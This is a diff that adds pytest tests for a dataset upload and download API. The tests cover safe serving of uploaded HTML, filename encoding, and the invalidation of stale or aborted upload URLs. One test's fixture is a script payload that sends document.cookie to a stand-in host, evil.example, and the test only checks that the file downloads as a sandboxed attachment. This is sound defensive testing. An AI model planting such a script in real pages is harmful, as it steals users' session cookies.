@@ -294,3 +294,88 @@ def test_viewer_cannot_upload(api, factory, owner):
     viewer = factory.member("acme", "vic@example.com", "viewer")
     response = start(api, viewer, [{"name": "a", "size": 1}])
     assert response.status_code == 403
+
+
+def complete(api, owner, upload) -> dict:
+    done = api.post(
+        f"/api/v1/tenants/acme/uploads/{upload['id']}/complete", json={}, headers=owner.headers
+    )
+    assert done.status_code == 201, done.text
+    return done.json()
+
+
+def download(api, owner, dataset, name: str):
+    links = api.get(
+        f"/api/v1/tenants/acme/datasets/{dataset['short_id']}/download", headers=owner.headers
+    ).json()
+    return api.get(next(link["url"] for link in links if link["name"] == name))
+
+
+def test_uploaded_html_downloads_as_an_attachment_never_a_page(api, owner):
+    html = b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
+    upload = start(api, owner, [{"name": "report.html", "size": len(html)}]).json()
+    url = part_url(api, owner, upload, upload["files"][0]["id"], 1, None)
+    stored = api.put(url, content=html, headers={"Content-Type": "text/html"})
+    assert stored.status_code == 200
+    response = download(api, owner, complete(api, owner, upload), "report.html")
+    assert response.content == html
+    assert response.headers["content-type"].startswith("text/html")  # as uploaded, but:
+    assert response.headers["content-disposition"] == (
+        "attachment; filename=\"report.html\"; filename*=UTF-8''report.html"
+    )
+    assert response.headers["x-content-type-options"] == "nosniff"
+    assert response.headers["content-security-policy"] == "default-src 'none'; sandbox"
+    ranged = api.get(response.request.url, headers={"Range": "bytes=0-7"})
+    assert ranged.status_code == 206
+    assert ranged.headers["content-disposition"].startswith("attachment;")
+    assert ranged.headers["content-security-policy"] == "default-src 'none'; sandbox"
+
+
+def test_download_names_are_safely_encoded(api, owner):
+    name = 'dir/ré"port; x.html'
+    upload = start(api, owner, [{"name": name, "size": 2}])
+    assert upload.status_code == 201, upload.text
+    upload = upload.json()
+    api.put(part_url(api, owner, upload, upload["files"][0]["id"], 1, None), content=b"ok")
+    response = download(api, owner, complete(api, owner, upload), name)
+    assert response.headers["content-disposition"] == (
+        "attachment; filename=\"r__port; x.html\"; filename*=UTF-8''r%C3%A9%22port%3B%20x.html"
+    )
+
+
+def test_upload_urls_cannot_change_a_completed_dataset(api, owner, app):
+    small, big = b"original", bytes(range(256)) * (36864 + 3)  # 9 MiB and a bit: 2 parts
+    upload = start(api, owner, [{"name": "s.txt", "size": len(small)},
+                                {"name": "big.bin", "size": len(big)}]).json()  # fmt: skip
+    by_name = {f["name"]: f for f in upload["files"]}
+    small_url = part_url(api, owner, upload, by_name["s.txt"]["id"], 1, None)
+    part_urls = {
+        n: part_url(api, owner, upload, by_name["big.bin"]["id"], n, chunk)
+        for n, chunk in ((1, big[: 8 * MiB]), (2, big[8 * MiB :]))
+    }
+    assert api.put(small_url, content=small).status_code == 200
+    for n, url in part_urls.items():
+        assert api.put(url, content=big[(n - 1) * 8 * MiB : n * 8 * MiB]).status_code == 200
+    dataset = complete(api, owner, upload)
+    # The single-PUT URL wrote to a staging key; the dataset's object is a copy made at
+    # completion, and the staging object is gone.
+    store = app.state.object_store
+    assert [o.key for o in store.list("tenants/").objects if "staging/" in o.key] == []
+
+    again = api.put(small_url, content=b"tampered")
+    assert again.status_code == 200  # a stale URL can only write an object nobody reads
+    late_part = api.put(part_urls[1], content=big[: 8 * MiB])
+    assert late_part.status_code == 404  # the multipart upload is gone
+    assert download(api, owner, dataset, "s.txt").content == small
+    assert download(api, owner, dataset, "big.bin").content == big
+    shown = api.get(f"/api/v1/tenants/acme/datasets/{dataset['short_id']}", headers=owner.headers)
+    assert shown.json()["version"] == dataset["version"]
+
+
+def test_upload_urls_die_with_an_aborted_upload(api, owner, app):
+    data = b"z" * (9 * MiB)
+    upload = start(api, owner, [{"name": "f.bin", "size": len(data)}]).json()
+    url = part_url(api, owner, upload, upload["files"][0]["id"], 1, data[: 8 * MiB])
+    assert api.delete(f"/api/v1/tenants/acme/uploads/{upload['id']}", headers=owner.headers)
+    assert api.put(url, content=data[: 8 * MiB]).status_code == 404
+    assert app.state.object_store.list("tenants/").objects == []
